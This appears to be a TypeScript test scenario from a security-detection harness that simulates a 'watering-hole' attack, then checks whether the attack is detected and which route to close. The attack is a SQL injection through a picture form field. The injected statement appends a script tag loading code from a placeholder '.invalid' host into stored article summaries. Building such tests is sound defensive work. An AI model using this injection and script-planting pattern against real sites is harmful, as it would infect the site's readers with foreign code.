import { readMarked } from '../attack.store.ts';
import { newestFinding, scopeOfStrangers, untilFound } from './finding.ts';
import { inject, injectAgain } from './injection.ts';
import type { Scenario } from './scenario.ts';

const FROM = '127.0.0.77';

/**
 * Markup that loads a foreign script is written into rows through an injection in the form for pictures. The publisher must
 * not sign it: what it renders is not what two people approved. Nobody has mended the code yet: the route stays closed.
 */
export const wateringHole: Scenario = {
  name: 'watering-hole',
  question: 'Did the website infect those who read it?',
  way: 'undo',
  isAttributable: true,
  closeRoutes: ['picture.change'],
  attack: async (stage) => {
    const { mark, now, paths, tell } = stage;
    const [begunAt, begunMs, newest] = [now(), performance.now(), await newestFinding(stage)];
    const script = `<script src="https://${mark}.invalid/x.js"></script>`;
    const statements = [`update article_text set summary = left(summary, 400) || '${script}' where language in ('en', 'fr')`];
    const given = { field: 'picture', from: FROM, batches: [statements] } as const;
    const { thief, sent } = await inject(stage, given);
    const rows = await readMarked(paths, mark);
    tell(`an injection wrote a foreign script into ${rows} rows`);
    const again = async () => {
      const before = await readMarked(paths, mark);
      // A new draft whose description is kept as a text holds the words of the injection itself: one row of its own.
      return injectAgain(stage, { ...given, thief, wasRun: async () => (await readMarked(paths, mark)) > before + 1 });
    };
    return { begunAt, begunMs, newest, requests: sent.map(({ requestId }) => requestId), xids: [], rows, again, details: {} };
  },
  find: async (stage, attack) => ({ ...(await untilFound(stage, attack)), scope: await scopeOfStrangers(stage) }),
};
